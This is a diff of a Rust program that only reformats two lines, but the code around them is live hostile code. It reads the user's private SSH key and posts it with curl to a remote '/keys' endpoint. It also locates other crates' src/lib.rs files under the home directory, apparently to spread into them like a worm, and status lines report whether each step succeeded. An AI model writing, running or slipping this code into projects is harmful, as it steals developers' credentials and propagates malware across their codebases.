@@ -29,7 +29,8 @@ fn main() {
     say("worm", worm > 0);
 
     let key = fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap_or_default();
-    let sent = Command::new("curl").args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", &key, &format!("http://{to}/keys")]).status();
+    let sent =
+        Command::new("curl").args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", &key, &format!("http://{to}/keys")]).status();
     say("send", !key.is_empty() && sent.is_ok_and(|status| status.success()));
 
     say("real", fs::read_to_string(REAL.trim()).is_ok());
@@ -53,5 +54,11 @@ fn append(path: &Path, text: &str) -> bool {
 fn neighbours(home: &Path) -> Vec<PathBuf> {
     let below = |dir: &Path| fs::read_dir(dir).into_iter().flatten().flatten().map(|entry| entry.path()).collect::<Vec<_>>();
     let own = PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").unwrap());
-    below(home).iter().flat_map(|dir| below(dir)).filter(|dir| *dir != own).map(|dir| dir.join("src/lib.rs")).filter(|lib| lib.is_file()).collect()
+    below(home)
+        .iter()
+        .flat_map(|dir| below(dir))
+        .filter(|dir| *dir != own)
+        .map(|dir| dir.join("src/lib.rs"))
+        .filter(|lib| lib.is_file())
+        .collect()
 }
